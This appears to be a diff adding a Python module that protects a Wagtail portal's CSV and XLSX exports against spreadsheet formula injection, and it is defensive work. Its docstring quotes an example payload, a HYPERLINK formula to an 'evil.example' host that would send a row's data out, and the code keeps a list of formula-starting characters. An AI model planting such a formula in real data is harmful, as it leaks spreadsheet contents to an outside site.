@@ -1,0 +1,143 @@
+"""What people typed stays text in every spreadsheet the portal writes.
+
+A cell whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a
+carriage return is read by Excel and LibreOffice as a formula ("CSV
+injection"): a client named ``=HYPERLINK("https://evil.example/?"&A2)`` would
+send the row to that site when a franchisee clicks. Every export goes
+through this module:
+
+- XLSX: such a value is written as a string cell (openpyxl would otherwise
+  store it as a formula), the way Wagtail's own export guards against it;
+  the text stays exactly what was typed.
+- CSV (plain text, where the type cannot be said): the value gets a leading
+  apostrophe, the form spreadsheets show as text (OWASP's advice).
+
+``SafeSpreadsheetExportMixin`` applies both to a Wagtail or ModelAdmin
+index view with ``list_export``; ``xlsx_cell`` to a hand-made workbook.
+"""
+
+import csv
+
+from django.contrib.admin.utils import label_for_field
+from django.core.exceptions import FieldDoesNotExist
+from django.utils.encoding import force_str
+from django.utils.text import capfirst
+from openpyxl import Workbook
+from wagtail.admin.views.mixins import Echo, ExcelDateFormatter, SpreadsheetExportMixin
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def is_formula_like(value):
+    """Whether a spreadsheet would read this value as a formula."""
+    return isinstance(value, str) and value.startswith(FORMULA_STARTS)
+
+
+def safe_cell(value):
+    """The value to write in a CSV (or any untyped) cell: text stays text."""
+    if is_formula_like(value):
+        return "'" + value
+    return value
+
+
+def _xlsx_text(value):
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+    # Control characters openpyxl refuses (a pasted message may hold some)
+    # would fail the whole export: they are dropped.
+    return ILLEGAL_CHARACTERS_RE.sub("", value)
+
+
+def xlsx_cell(sheet, value):
+    """A write-only openpyxl cell holding ``value``; a string is always a
+    string cell, never a formula."""
+    from openpyxl.cell import WriteOnlyCell
+
+    if isinstance(value, str):
+        value = _xlsx_text(value)
+    cell = WriteOnlyCell(sheet, value=value)
+    if isinstance(value, str):
+        cell.data_type = "s"
+    return cell
+
+
+class SafeSpreadsheetExportMixin:
+    """For views built on Wagtail's ``SpreadsheetExportMixin`` (Wagtail
+    generic index views, wagtail-modeladmin's ``IndexView``)."""
+
+    def preprocess_field_value(self, field, value, export_format):
+        value = super().preprocess_field_value(field, value, export_format)
+        if export_format == self.FORMAT_CSV:
+            return safe_cell(value)
+        if isinstance(value, str):
+            return _xlsx_text(value)
+        return value
+
+    def generate_xlsx_row(self, worksheet, row_dict, date_format=None):
+        for cell in super().generate_xlsx_row(worksheet, row_dict, date_format=date_format):
+            if isinstance(cell.value, str):
+                cell.data_type = "s"
+            yield cell
+
+
+class SpreadsheetWriter(SafeSpreadsheetExportMixin, SpreadsheetExportMixin):
+    """The one writer of the portal's spreadsheets: Wagtail's
+    ``SpreadsheetExportMixin`` (headings, value preprocessing, XLSX date
+    formats) outside a view, with the formula guard above. The columns are
+    given (``list_export``, ``export_headings``, ``custom_field_preprocess``);
+    the rows are any iterable of objects, read once; ``rows_written`` counts
+    them. The requests export job and the SPANC folder export use it."""
+
+    def __init__(self, model, list_export, export_headings=None, custom_field_preprocess=None,
+                 sheet_title="Sheet1", csv_bom=True):
+        self.model = model
+        self.list_export = list(list_export)
+        self.export_headings = dict(export_headings or {})
+        self.custom_field_preprocess = dict(custom_field_preprocess or {})
+        self.sheet_title = str(sheet_title)[:31]
+        self.csv_bom = csv_bom
+        self.rows_written = 0
+
+    def get_heading(self, queryset, field):
+        heading = self.export_headings.get(field)
+        if heading:
+            return force_str(heading)
+        try:
+            return capfirst(force_str(label_for_field(field, self.model)))
+        except (AttributeError, FieldDoesNotExist):
+            return force_str(field)
+
+    def _counted(self, items):
+        self.rows_written = 0
+        for item in items:
+            self.rows_written += 1
+            yield item
+
+    def stream_csv(self, items):
+        writer = csv.DictWriter(Echo(), fieldnames=self.list_export)
+        if self.csv_bom:
+            yield "\ufeff"  # so that Excel opens the UTF-8 CSV with its accents
+        yield writer.writerow({field: self.get_heading(None, field) for field in self.list_export})
+        for item in self._counted(items):
+            yield self.write_csv_row(writer, self.to_row_dict(item))
+
+    def write_csv(self, items, output):
+        """Write the CSV into the binary file ``output``."""
+        for chunk in self.stream_csv(items):
+            output.write(chunk.encode("utf-8") if isinstance(chunk, str) else chunk)
+
+    def write_xlsx(self, items, output):
+        workbook = Workbook(write_only=True, iso_dates=True)
+        worksheet = workbook.create_sheet(title=self.sheet_title)
+        worksheet.append(self.get_heading(None, field) for field in self.list_export)
+        date_format = ExcelDateFormatter().get()
+        for item in self._counted(items):
+            worksheet.append(self.generate_xlsx_row(worksheet, self.to_row_dict(item), date_format=date_format))
+        workbook.save(output)
+
+    def write(self, export_format, items, output):
+        if export_format == self.FORMAT_CSV:
+            self.write_csv(items, output)
+        else:
+            self.write_xlsx(items, output)
+        return self.rows_written
